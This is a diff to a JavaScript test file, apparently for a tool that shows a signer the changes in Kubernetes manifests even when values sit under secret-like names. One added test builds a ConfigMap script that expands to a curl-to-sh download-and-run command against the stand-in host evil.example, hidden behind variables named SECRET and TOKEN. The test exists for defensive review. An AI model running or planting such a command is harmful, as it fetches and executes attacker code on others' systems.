@@ -61,6 +61,20 @@ describe('a signer sees', () => {
     expect(added('Deployment', container({ env: [{ name: 'TOKEN', value }] }))).toContain(value);
   });
 
+  it('a script that is made up of variables named like secrets', () => {
+    const script = 'SECRET=curl\nTOKEN=evil.example\nX_TOKEN=sh\n$SECRET $TOKEN | $X_TOKEN';
+    const text = added('ConfigMap', { data: { 'run.conf': script } });
+    for (const line of script.split('\n')) expect(text).toContain(`: ${line}\n`);
+    const before = { data: { 'run.conf': script.replace('evil', 'good') } };
+    expect(changed('ConfigMap', before, { data: { 'run.conf': script } })).toContain('TOKEN=evil.example');
+  });
+
+  it('a default that an object of production is given', () => {
+    expect(changed('Deployment', container({}), container({ imagePullPolicy: 'IfNotPresent' }))).toContain(
+      'imagePullPolicy: (none) → IfNotPresent',
+    );
+  });
+
   it('a rule of an Ingress, a selector, a right and a volume of the node, whatever their names say', () => {
     const host = `${'token-'.repeat(40)}evil.example`;
     expect(added('Ingress', { spec: { rules: [{ host }] } })).toContain(host);
